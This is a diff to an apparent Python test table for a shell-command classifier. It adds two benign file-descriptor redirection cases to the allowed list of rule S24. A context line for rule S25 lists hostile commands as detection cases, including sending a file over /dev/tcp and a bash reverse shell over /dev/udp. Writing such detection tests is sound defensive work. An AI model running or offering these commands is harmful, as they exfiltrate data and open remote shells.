@@ -166,7 +166,15 @@ TABLE: dict[str, tuple[list[str], list[str]]] = {
     ),
     "S24": (
         ["echo x > f", "cat a >> b", "exec 3<>f", "tee f", "cp a b", "ls &> out"],
-        ["ls > /dev/null", "ls 2>&1", "ls 2>/dev/null", "cat < f", "echo x >&2"],
+        [
+            "ls > /dev/null",
+            "ls 2>&1",
+            "ls 2>/dev/null",
+            "cat < f",
+            "echo x >&2",
+            "ls 2>&- >&-",
+            "ls <&-",
+        ],
     ),
     "S25": (
         ["cat f > /dev/tcp/1.2.3.4/80", "exec 3<>/dev/tcp/h/80", "bash -i >& /dev/udp/h/53 0>&1"],
